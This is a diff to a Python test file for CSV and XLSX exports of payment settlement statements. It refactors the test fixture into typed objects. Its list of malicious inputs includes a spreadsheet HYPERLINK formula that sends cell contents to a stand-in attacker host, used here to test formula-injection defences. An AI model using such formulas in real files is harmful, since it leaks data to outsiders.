@@ -12,6 +12,22 @@ import pytest
 from openpyxl import load_workbook
 
 from gateway.documents.exports import HEAD, csv_bytes, rows, safe, xlsx_bytes
+from gateway.outcomes.reconciling import DocumentsBand
+from gateway.outcomes.settlement_terms import CorrectionForm
+from gateway.settlement.statement_view import (
+    PaidOperator,
+    PayerAccount,
+    PayerShare,
+    PaymentEvidence,
+    SettledContract,
+    SettlementStatement,
+    StatementLine,
+    StatementSums,
+    StatementTerms,
+    StatementWindow,
+)
+from gateway.settlement.states import SettlementState
+from policies.disclosure import Band
 
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"pay")',
@@ -29,41 +45,66 @@ EVIL = [
 ]
 
 
-def made(text: str) -> dict:
+def made(text: str, *, minor: int = -150_005) -> SettlementStatement:
     """A statement in which every text that a contract may choose is this one."""
-    return {
-        "contract": {"id": "impact60", "title": text},
-        "payers": [
-            {
-                "organisation": "aalborg-kommune",
-                "gln": "5799999008511",
-                "order_number": text,
-                "person_reference": text,
-                "account": "5.58",
-            }
-        ],
-        "windows": [
-            {
-                "window": text,
-                "on_documents": {"measure": text, "band": "from_10_to_25"},
-                "from_week": "2018-W40",
-                "to_week": "2018-W52",
-                "state": "released",
-                "document": {"jti": "urn:uuid:1", "jwt_sha256": "a", "contract_version": 1, "rules_sha256": "b"},
-                "lines": [
-                    {
-                        "tariff": text,
-                        "kind": "correction",
-                        "unit": "week",
-                        "quantity": -3,
-                        "amount_minor": -150_005,
-                        "state": "released",
-                        "shares": [{"payer": "aalborg-kommune", "amount_minor": -150_005}],
-                    }
-                ],
-            }
-        ],
-    }
+    payer = PayerAccount(
+        "aalborg-kommune",
+        text,
+        1,
+        1,
+        text,
+        "5799999008511",
+        text,
+        text,
+        "5.58",
+        due_minor=0,
+        invoiced_minor=0,
+        paid_minor=0,
+    )
+    line = StatementLine(
+        line=f"{text}/correction",
+        tariff=text,
+        kind="correction",
+        unit="week",
+        quantity=-3,
+        amount_minor=minor,
+        shares=(PayerShare("aalborg-kommune", minor),),
+        state=SettlementState.RELEASED,
+        accepted_by=(),
+        dispute=None,
+    )
+    window = StatementWindow(
+        window=text,
+        from_week="2018-W40",
+        to_week="2018-W52",
+        state=SettlementState.RELEASED,
+        stated=False,
+        document=PaymentEvidence("urn:uuid:1", "a", 0, 1, 1, date(2026, 1, 2), 1, "b"),
+        on_documents=DocumentsBand(Band.FROM_10_TO_25, 5, text),
+        lines=(line,),
+        due_minor=minor,
+        corrections_minor=minor,
+        disputed_minor=0,
+        invoiced_minor=0,
+        paid_minor=0,
+        superseded=(),
+        next=None,
+    )
+    return SettlementStatement(
+        schema="settlement-statement/1",
+        contract=SettledContract("impact60", text, 1, "b"),
+        currency="DKK",
+        made_on=date(2026, 1, 2),
+        demo=True,
+        illustrative=(),
+        payers=(payer,),
+        operator=PaidOperator(text, "99990015"),
+        terms=StatementTerms(20, 30, CorrectionForm.OFFSET, "exempt"),
+        opening=None,
+        windows=(window,),
+        cumulative=StatementSums(minor, minor, 0, 0, 0, minor, (), 0, cap_reached=False),
+        bills=(),
+    )
 
 
 @pytest.mark.parametrize("text", EVIL)
@@ -102,7 +143,5 @@ def test_what_is_no_formula_is_left_as_it_is():
 
 
 def test_an_amount_that_a_spreadsheet_would_round_is_refused():
-    statement = made("x")
-    statement["windows"][0]["lines"][0]["amount_minor"] = 10**15
     with pytest.raises(ValueError, match="round"):
-        rows(statement)
+        rows(made("x", minor=10**15))
